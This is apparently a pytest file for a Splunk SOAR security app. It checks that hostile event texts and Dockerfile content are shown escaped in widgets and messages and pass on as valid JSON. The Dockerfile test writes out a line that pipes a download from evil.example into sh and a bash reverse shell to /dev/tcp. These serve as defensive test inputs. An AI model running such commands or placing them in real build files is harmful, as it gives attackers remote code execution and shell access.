"""Nothing that an event holds runs, forges or hides in what the app shows."""

from __future__ import annotations

import json
from pathlib import Path
from runpy import run_path
from typing import Any

import pytest

from .conftest import Run
from .test_widgets import shown

OUTPUT = Path(__file__).resolve().parents[3] / "tests" / "output"
HOSTILE = run_path(str(OUTPUT / "hostile.py"))
HOLDING = run_path(str(OUTPUT / "holding.py"))
TEXTS = [text for texts in HOSTILE["CORPORA"].values() for text in texts]
HEAPS = [TEXTS[at::20] for at in range(20)]
HARMLESS = ["_web", "x y", "7"]


def events(texts: list[str]) -> list[dict[str, Any]]:
    return [event for text in texts for event in HOSTILE["chain"](text)]


@pytest.mark.parametrize("action", ["score_events", "correlate"])
def test_a_widget_shows_texts_as_they_are(run: Run, action: str) -> None:
    from splunk_soar.src.app import show_chains, show_findings

    view = show_chains if action == "correlate" else show_findings
    harmless = shown([run(action, events=events(HARMLESS))], view)
    for heap in HEAPS:
        page = shown([run(action, events=events(heap))], view)
        assert "OWNED" in page
        HOLDING["html"](page, harmless)


def test_a_widget_shows_a_dockerfile_as_it_is(run: Run) -> None:
    from splunk_soar.src.app import show_dockerfile

    def page(text: str) -> str:
        said = " ".join(text.splitlines())
        lines = f"FROM a\nRUN curl http://evil.example/{said} | sh\nRUN bash -i >& /dev/tcp/x/1"
        return shown([run("score_dockerfile", content=lines)], show_dockerfile)

    harmless = page("x")
    for text in TEXTS[::5]:
        HOLDING["html"](page(text), harmless)


@pytest.mark.parametrize("action", ["score_events", "correlate"])
def test_a_message_of_an_action_is_no_more_than_a_text(run: Run, action: str) -> None:
    messages = set()
    for text in TEXTS[::5]:
        for told in ({"events": text}, {"events": events([text])}, {"kind": text, "events": []}):
            messages.add(run(action, **told).get_message())
    assert len(messages) > 1
    for message in messages:
        HOLDING["forges_no_line"](message)


def test_what_is_passed_on_is_json_that_holds_its_texts(run: Run) -> None:
    for heap in HEAPS:
        made = run("score_events", events=events(heap)).get_data()
        assert made
        assert json.loads(json.dumps(made)) == made
